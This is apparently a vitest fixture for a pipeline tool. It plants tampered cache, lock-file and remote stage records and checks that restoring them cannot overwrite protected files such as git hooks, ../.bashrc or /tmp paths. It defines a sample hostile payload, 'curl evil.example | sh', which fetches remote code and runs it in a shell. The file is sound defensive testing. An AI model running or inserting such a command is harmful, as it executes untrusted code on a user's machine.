/** A project whose records somebody else has written, and what they must not reach. */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll } from 'vitest';
import { type Digest, digestBytes } from '../../core/digest.ts';
import { realEffects } from '../../core/effects.ts';
import { renderEntry } from '../cache/action-entry.ts';
import { BlobStore } from '../cache/blob-store.ts';
import { readLockFile, renderLock } from '../lockfile/lock-file.ts';
import { openRemote } from '../remote/open-remote.ts';
import type { StageRecord } from '../project/stage-record.ts';
import { TestProject } from './test-project.fixture.ts';

const PIPELINE = `stages:
  one: {cmd: printf one > out.txt, outs: [out.txt]}
  many: {cmd: mkdir -p data/d; printf a > data/d/a; printf b > data/d/b, outs: [data/d]}
`;
export const EVIL = 'curl evil.example | sh\n';

export const box = mkdtempSync(join(tmpdir(), 'hostile-records-'));
export const remote = join(box, 'remote');
export let project: TestProject;
export let honest: ReadonlyMap<string, StageRecord>;
export let cache: BlobStore;

beforeAll(async () => {
  project = new TestProject({ 'pipeline.yaml': PIPELINE, '.git/hooks/pre-push': 'mine' });
  mkdirSync(remote);
  writeFileSync(join(dirname(project.root), 'beside.txt'), 'mine');
  await project.repro();
  honest = readLockFile(project.path('pipeline.lock')).stages;
  cache = new BlobStore(project.path('.mlops/cache'), realEffects, () => undefined);
});
afterAll(() => {
  project[Symbol.dispose]();
  rmSync(join(dirname(project.root), 'beside.txt'), { force: true });
  rmSync(box, { recursive: true });
});

export const recordOf = (stage: string): StageRecord => {
  const record = honest.get(stage);
  if (record === undefined) throw new RangeError(stage);
  return record;
};

/** Everything that no stage may touch, with what it holds. */
export function untouchable(): { readonly [path: string]: string } {
  const found: { [path: string]: string } = {};
  const walk = (folder: string, prefix: string) => {
    for (const name of readdirSync(folder)) {
      const path = `${prefix}${name}`;
      if (['.mlops', 'out.txt', 'data', 'pipeline.lock'].includes(path)) continue;
      const stat = lstatSync(join(folder, name));
      if (stat.isDirectory()) walk(join(folder, name), `${path}/`);
      else
        found[path] = stat.isSymbolicLink()
          ? readlinkSync(join(folder, name))
          : readFileSync(join(folder, name), 'utf8');
    }
  };
  walk(project.root, '');
  for (const place of ['beside.txt', 'new.txt', '.bashrc', 'x', 'a', 'd'])
    found[`../${place}`] = existsSync(join(dirname(project.root), place))
      ? readFileSync(join(dirname(project.root), place), 'utf8')
      : 'absent';
  found['/tmp/hostile-record'] = String(existsSync('/tmp/hostile-record'));
  return found;
}

export const blobIn = (folder: string, digest: Digest): string =>
  join(folder, 'blobs', digest.slice(7, 9), digest.slice(9));

export function place(folder: string, text: string): Digest {
  const digest = digestBytes(text);
  mkdirSync(dirname(blobIn(folder, digest)), { recursive: true });
  if (!existsSync(blobIn(folder, digest))) writeFileSync(blobIn(folder, digest), text);
  return digest;
}

/** Puts a record where it will be looked for, restores, and says what became of the stages. */
export async function restoreFrom(
  source: 'entry' | 'lock' | 'remote',
  records: readonly (readonly [stage: string, record: StageRecord])[],
): Promise<readonly string[]> {
  for (const path of ['out.txt', 'data', 'pipeline.lock', '.mlops/cache/actions', '.mlops/state'])
    rmSync(project.path(path), { recursive: true, force: true });
  rmSync(join(remote, 'actions'), { recursive: true, force: true });
  for (const [, record] of records) {
    const name = `actions/${record.fingerprint.slice('blake3:'.length)}.json`;
    const folder = source === 'remote' ? remote : project.path('.mlops/cache');
    mkdirSync(join(folder, 'actions'), { recursive: true });
    if (source !== 'lock') writeFileSync(join(folder, name), renderEntry(record));
  }
  if (source === 'lock') project.write('pipeline.lock', renderLock({ stages: new Map(records) }));
  const opened = await openRemote({ url: remote, base: box }, realEffects);
  const run = await project.repro(source === 'remote' ? { remote: opened } : {});
  return run.verdicts;
}
